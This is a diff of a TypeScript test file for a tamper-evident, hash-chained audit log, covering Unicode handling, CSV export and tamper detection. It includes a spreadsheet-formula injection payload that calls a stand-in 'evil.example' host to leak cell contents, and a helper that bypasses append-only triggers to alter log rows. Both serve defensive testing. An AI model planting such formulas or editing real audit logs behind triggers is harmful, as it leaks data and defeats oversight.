@@ -1,8 +1,12 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { asc, sql } from 'drizzle-orm';
+import { asc, count, desc, eq, sql } from 'drizzle-orm';
+import Papa from 'papaparse';
+import { AUDIT_HEAD_HEADER, AUDIT_HEAD_LINE_PREFIX, AUDIT_VERIFY, ERR, type AuditRecord, type AuditVerifyAnswer, type ValidationErrorData } from '@eln/shared';
 import { auditLog } from '../db/schema.js';
 import { startTestServer, type TestServer } from '../testing/harness.js';
-import { appendAudit, GENESIS_HASH, verifyAuditChain } from './audit.js';
+import { appendAudit, auditChainHead, GENESIS_HASH, insertChecked, verifyAuditChain } from './audit.js';
+import { AUDIT_HEAD_LOG_MESSAGE, logAuditHead, startAuditHeadLog } from './anchor.js';
+import { auditCsv } from './routes.js';
 
 let server: TestServer;
 beforeAll(async () => {
@@ -25,6 +29,17 @@ const append = (n: number) =>
     }),
   );
 
+const auditRows = async () => Number((await server.database.db.select({ n: count() }).from(auditLog))[0]?.n);
+const intact = (checked: number): AuditVerifyAnswer => ({ ok: true, checked, firstBroken: null, broken: [], brokenCount: 0 });
+
+/** Changes rows behind the append-only triggers, as a superuser with database access could. */
+async function tamper(statement: ReturnType<typeof sql>): Promise<void> {
+  await server.database.db.transaction(async (tx) => {
+    await tx.execute(sql`set local session_replication_role = replica`);
+    await tx.execute(statement);
+  });
+}
+
 describe('the audit trail', () => {
   it('chains every record to the one before it, from the genesis hash', async () => {
     await append(1);
@@ -32,7 +47,7 @@ describe('the audit trail', () => {
     const rows = await server.database.db.select().from(auditLog).orderBy(asc(auditLog.seq));
     expect(rows[0]?.prevHash).toBe(GENESIS_HASH);
     for (let i = 1; i < rows.length; i += 1) expect(rows[i]?.prevHash).toBe(rows[i - 1]?.hash);
-    expect(await verifyAuditChain(server.database.db)).toEqual({ ok: true, checked: rows.length, firstBroken: null });
+    expect(await verifyAuditChain(server.database.db)).toEqual(intact(rows.length));
   });
 
   it('stays one unbroken chain when many changes append at once', async () => {
@@ -44,17 +59,140 @@ describe('the audit trail', () => {
   });
 
   it('rolls back with the change it belongs to', async () => {
-    const before = (await server.database.db.select().from(auditLog)).length;
+    const before = await auditRows();
     await expect(
       server.database.db.transaction(async (tx) => {
         await appendAudit(tx, { actor: null, action: 'user.created', target: { type: 'user', id: 'never@lab.test' } });
         throw new Error('the change failed');
       }),
     ).rejects.toThrow('the change failed');
-    expect((await server.database.db.select().from(auditLog)).length).toBe(before);
+    expect(await auditRows()).toBe(before);
     expect((await verifyAuditChain(server.database.db)).ok).toBe(true);
   });
 
+  it('hashes what the database stores: odd Unicode from server code keeps the chain intact', async () => {
+    const odd = {
+      astral: '😀 𝄞 𠀋',
+      combining: 'e\u0301 n\u0303 \u1100\u1161\u11A8',
+      replacement: 'already \uFFFD',
+      loneHigh: 'a\uD800b',
+      loneLow: '\uDC00z',
+      nul: 'x\u0000y',
+    };
+    const seq = await server.database.db.transaction((tx) =>
+      appendAudit(tx, {
+        actor: { userNo: null, userId: `a\uD800b@x.yz` },
+        action: 'user.signInFailed',
+        target: { type: 'user', id: 'tar\uDFFFget\u0000' },
+        before: { ...odd, ['key\uD83D']: 'lone high surrogate in a key', list: Object.values(odd) },
+        after: odd,
+        reason: Object.values(odd).join(' | '),
+        clientAddress: '::1\u0000',
+      }),
+    );
+    const [stored] = await server.database.db.select().from(auditLog).where(eq(auditLog.seq, seq));
+    // What PostgreSQL keeps: U+FFFD where the text was not valid Unicode or was NUL; the rest unchanged.
+    expect(stored?.actorUserId).toBe('a\uFFFDb@x.yz');
+    expect(stored?.targetId).toBe('tar\uFFFDget\uFFFD');
+    expect(stored?.after).toEqual({ ...odd, loneHigh: 'a\uFFFDb', loneLow: '\uFFFDz', nul: 'x\uFFFDy' });
+    expect(Object.keys(stored?.before as object)).toContain('key\uFFFD');
+    expect(await verifyAuditChain(server.database.db)).toEqual(intact(await auditRows()));
+    const admin = await server.as(server.admin);
+    expect((await admin<AuditVerifyAnswer>('/v1/audit/verify', {})).body.data).toMatchObject({ ok: true, brokenCount: 0 });
+  });
+
+  it('refuses to store a record whose stored form would not give the hash computed for it', async () => {
+    const before = await auditRows();
+    const head = await auditChainHead(server.database.db);
+    // A record that skipped the normalisation: its lone surrogate would be stored as U+FFFD.
+    const unnormalised = {
+      seq: (head?.seq ?? 0) + 1000,
+      at: new Date(),
+      actorUserNo: null,
+      actorUserId: null,
+      action: 'user.signInFailed',
+      targetType: 'user',
+      targetId: 'a\uD800b@x.yz',
+      before: null,
+      after: null,
+      reason: null,
+      clientAddress: null,
+      prevHash: head?.hash ?? GENESIS_HASH,
+    };
+    await expect(server.database.db.transaction((tx) => insertChecked(tx, unnormalised))).rejects.toThrow(/stored differently/);
+    expect(await auditRows()).toBe(before);
+    expect((await verifyAuditChain(server.database.db)).ok).toBe(true);
+  });
+
+  it('refuses a sign-in whose ID is not valid Unicode, records nothing, and the chain stays intact', async () => {
+    const before = await auditRows();
+    const refused = await server.call<ValidationErrorData>('/v1/user/signIn', { userId: 'a\uD800b@x.yz', password: 'x' });
+    expect(refused.http).toBe(400);
+    expect(refused.body.status).toBe(ERR.validation);
+    expect(refused.body.data.fields).toEqual([expect.objectContaining({ field: 'userId', reason: 'invalidCharacters' })]);
+    expect(await auditRows()).toBe(before);
+    expect((await verifyAuditChain(server.database.db)).ok).toBe(true);
+  });
+
+  it('logs the chain head (seq and hash) outside the database, at start and at an interval', async () => {
+    const lines: Array<{ data: unknown; message: string }> = [];
+    const log = { info: (data: unknown, message: string) => lines.push({ data, message }), error: () => undefined };
+    await logAuditHead(server.database.db, log);
+    const head = await auditChainHead(server.database.db);
+    expect(lines).toEqual([{ data: { auditChainHead: head }, message: AUDIT_HEAD_LOG_MESSAGE }]);
+
+    let resolveSecond: () => void = () => undefined;
+    const secondLine = new Promise<void>((resolve) => (resolveSecond = resolve));
+    const timed: unknown[] = [];
+    const stop = startAuditHeadLog(server.database.db, { info: (data: unknown) => timed.push(data) === 2 && resolveSecond(), error: () => undefined }, 20);
+    await secondLine;
+    stop();
+    expect(timed[0]).toEqual({ auditChainHead: head });
+  });
+
+  it('exports CSV whose last line and header name the chain head, the export’s own record', async () => {
+    const admin = await server.signIn(server.admin.userId, server.admin.password);
+    const exported = await server.app.inject({ method: 'POST', url: '/server/v1/audit/export', payload: {}, headers: { authorization: `Bearer ${admin.accessToken}` } });
+    expect(exported.statusCode).toBe(200);
+    const [own] = await server.database.db.select().from(auditLog).orderBy(desc(auditLog.seq)).limit(1);
+    expect(own?.action).toBe('audit.exported');
+    const lastLine = exported.body.trimEnd().split('\r\n').at(-1);
+    expect(lastLine).toBe(`${AUDIT_HEAD_LINE_PREFIX} seq=${own?.seq} hash=${own?.hash}`);
+    expect(exported.headers[AUDIT_HEAD_HEADER]).toBe(`${own?.seq} ${own?.hash}`);
+    const rows = Papa.parse<Record<string, string>>(exported.body.replace(/^\uFEFF/, '').trim(), { header: true, comments: '#' }).data;
+    expect(rows.length).toBe((own?.seq ?? 0) - 1 - (await skippedSeqs()));
+  });
+
+  it('exports a formula an attacker typed as text, never as a live formula', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")@x.yz';
+    const failed = await server.call('/v1/user/signIn', { userId: formula, password: 'wrong password' });
+    expect(failed.body.status).toBe(ERR.badCredentials);
+    const admin = await server.signIn(server.admin.userId, server.admin.password);
+    const exported = await server.app.inject({
+      method: 'POST',
+      url: '/server/v1/audit/export',
+      payload: { action: 'user.signInFailed' },
+      headers: { authorization: `Bearer ${admin.accessToken}` },
+    });
+    const rows = Papa.parse<Record<string, string>>(exported.body.replace(/^\uFEFF/, '').trim(), { header: true, comments: '#' }).data;
+    const target = rows.map((row) => row.targetId).find((id) => id?.includes('hyperlink'));
+    expect(target).toBe(`'${formula.toLowerCase()}`);
+    expect(rows.every((row) => Object.values(row).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
+
+    // Every formula start, also when a line break follows (papaparse's default pattern misses that).
+    const record = (reason: string): AuditRecord => ({ seq: 1, at: 'x', actorUserId: '+1', actorName: '@a', action: '-b', targetType: '\tc', targetId: '\rd', before: null, after: null, reason, clientAddress: null, prevHash: 'p', hash: 'h' });
+    const csv = Papa.parse<string[]>(auditCsv([record('=1+1\nsecond line')])).data[1];
+    expect(csv).toEqual(['1', 'x', "'+1", "'@a", "'-b", "'\tc", "'\rd", '', '', "'=1+1\nsecond line", '', 'p', 'h']);
+  });
+});
+
+/** Sequence numbers taken but never committed (rolled-back appends), so not in the chain. */
+async function skippedSeqs(): Promise<number> {
+  const [row] = await server.database.db.select({ max: sql<number>`max(${auditLog.seq})`, n: count() }).from(auditLog);
+  return Number(row?.max) - Number(row?.n);
+}
+
+describe('verify after tampering', () => {
   it('cannot be changed or removed: the database refuses UPDATE, DELETE and TRUNCATE', async () => {
     const db = server.database.db;
     for (const statement of [sql`update audit_log set reason = 'edited' where seq = 1`, sql`delete from audit_log where seq = 1`, sql`truncate audit_log`]) {
@@ -65,20 +203,45 @@ describe('the audit trail', () => {
     expect((await verifyAuditChain(db)).ok).toBe(true);
   });
 
-  it('names the first broken record when someone with superuser rights edits one behind the triggers', async () => {
-    const db = server.database.db;
-    const rows = await db.select().from(auditLog).orderBy(asc(auditLog.seq));
-    const victim = rows[3];
-    if (!victim) throw new Error('not enough audit rows');
-    await db.transaction(async (tx) => {
-      await tx.execute(sql`set local session_replication_role = replica`);
-      await tx.execute(sql`update audit_log set after = '{"name":"Someone else"}'::jsonb where seq = ${victim.seq}`);
-    });
-    const tampered = await verifyAuditChain(db);
-    expect(tampered).toEqual({ ok: false, checked: 3, firstBroken: victim.seq });
+  it('reports every changed record, also one far after an earlier break, each once', async () => {
+    const rows = await server.database.db.select().from(auditLog).orderBy(asc(auditLog.seq));
+    const early = rows[3];
+    const late = rows.at(-3);
+    if (!early || !late || late.seq - early.seq < 10) throw new Error('not enough audit rows');
+    await tamper(sql`update audit_log set after = '{"name":"Someone else"}'::jsonb where seq = ${early.seq}`);
+    await tamper(sql`update audit_log set reason = 'rewritten later' where seq = ${late.seq}`);
 
-    const admin = await server.signIn(server.admin.userId, server.admin.password);
-    const answer = await server.call('/v1/audit/verify', {}, { token: admin.accessToken });
-    expect(answer.body.data).toEqual({ ok: false, checked: 3, firstBroken: victim.seq });
+    const answer = await verifyAuditChain(server.database.db, 5);
+    expect(answer).toEqual({ ok: false, checked: rows.length, firstBroken: early.seq, broken: [early.seq, late.seq], brokenCount: 2 });
+    const admin = await server.as(server.admin);
+    // Signing in appended one more record, which is intact.
+    expect((await admin('/v1/audit/verify', {})).body.data).toEqual({ ok: false, checked: rows.length + 1, firstBroken: early.seq, broken: [early.seq, late.seq], brokenCount: 2 });
+  });
+
+  it('reports the record after one removed, and the record after one re-hashed to fit its change', async () => {
+    const rows = await server.database.db.select().from(auditLog).orderBy(asc(auditLog.seq));
+    const removed = rows[10];
+    const rehashed = rows[15];
+    const [afterRemoved, afterRehashed] = [rows[11], rows[16]];
+    if (!removed || !rehashed || !afterRemoved || !afterRehashed) throw new Error('not enough audit rows');
+    await tamper(sql`delete from audit_log where seq = ${removed.seq}`);
+    // Changed and given a new hash of its own: the record checks out, the next one no longer names it.
+    await tamper(sql`update audit_log set reason = 'rewritten', hash = ${'f'.repeat(64)} where seq = ${rehashed.seq}`);
+
+    const answer = await verifyAuditChain(server.database.db);
+    expect(answer.broken).toEqual(expect.arrayContaining([afterRemoved.seq, rehashed.seq, afterRehashed.seq]));
+    expect(answer.broken).not.toContain(removed.seq);
+    expect(answer.brokenCount).toBe(answer.broken.length);
+    expect(answer.firstBroken).toBe(answer.broken[0]);
+  });
+
+  it('lists at most the shared cap of broken records, and counts them all', async () => {
+    const cap = AUDIT_VERIFY.maxBrokenListed;
+    await Promise.all(Array.from({ length: cap + 5 }, (_, i) => append(1000 + i)));
+    await tamper(sql`update audit_log set reason = 'all of them' where action = 'user.created'`);
+    const answer = await verifyAuditChain(server.database.db);
+    expect(answer.broken.length).toBe(cap);
+    expect(answer.brokenCount).toBeGreaterThan(cap);
+    expect(answer.ok).toBe(false);
   });
 });
